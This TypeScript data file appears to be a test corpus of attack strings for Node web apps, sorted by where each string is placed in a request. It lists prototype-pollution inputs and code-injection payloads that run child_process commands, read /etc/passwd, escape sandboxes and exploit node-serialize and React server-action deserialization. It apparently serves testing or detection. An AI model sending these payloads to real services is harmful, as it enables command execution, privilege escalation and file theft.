// Node: prototypes, code, replies to server actions. Sources: published advisories of lodash, node-serialize, vm2, React.
import type { Family } from "../contract.ts"

export const NODE: readonly Family[] = [
    {
        name: "prototypes",
        rows: [
            ["query string", "__proto__[isAdmin]=true", "brackets"],
            ["query string", "constructor[prototype][x]=1", "by the constructor"],
            ["query string", "a.__proto__.b=1", "dots"],
            ["body application/json", '{"__proto__":{"isAdmin":true}}', "a key"],
            ["body application/json", '{"a":{"constructor":{"prototype":{"shell":"/bin/sh"}}}}', "by the constructor"],
            ["body application/json", '{"\\u005f_proto__":{"x":1}}', "an escaped key"],
            ["body application/json", '[{"op":"add","path":"/__proto__/x","value":1}]', "a patch"],
            ["body application/json", '[{"op":"replace","path":"/constructor/prototype/x","value":1}]', "a patch"],
            ["body application/json", '{"set":{"path":["constructor","prototype","x"],"value":1}}', "a path in a list"],
            ["query string", "__pro__proto__to__[x]=1", "a name that remains"],
            ["form string", "user%5B__proto__%5D%5Brole%5D=admin", "encoded brackets"],
            ["query", "constructor.prototype.toString", "a path as a value"],
        ],
    },
    {
        name: "node code",
        rows: [
            ["form", "require('child_process').execSync('id')", "a command"],
            ["query", "process.mainModule.require('child_process').exec('id')", "a command"],
            ["query", ";process.exit()", "ends the program"],
            ["query", "'-process.env-'", "within a string"],
            ["form", "global.process.binding('spawn_sync')", "a binding"],
            [
                "cookie",
                "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
                "a stored function",
            ],
            [
                "form",
                '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}',
                "a reply of a server action",
            ],
            ["body text/plain", '["$1:constructor:constructor"]', "a reply of a server action"],
            ["form", "this.constructor.constructor('return process')().mainModule", "out of a room"],
            ["form", "import('child_process').then(c=>c.execSync('id'))", "an import"],
            ["form", "require('fs').readFileSync('/etc/passwd').toString()", "a file"],
            ["form", 'Function("return process")()', "a function of a text"],
            ["form", 'Reflect.construct(Function,["return process"])()', "by reflection"],
            ["form", "process['mainModule']['require']('child_process')", "computed names"],
            ["form", "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=','base64')+'')", "a program in base64"],
            ["form", "res.end(require('fs').readdirSync('.').join())", "a folder"],
            ["form", "Deno.readTextFileSync('/etc/passwd')", "Deno"],
            ["form", "Bun.spawnSync(['id']).stdout", "Bun"],
        ],
    },
]
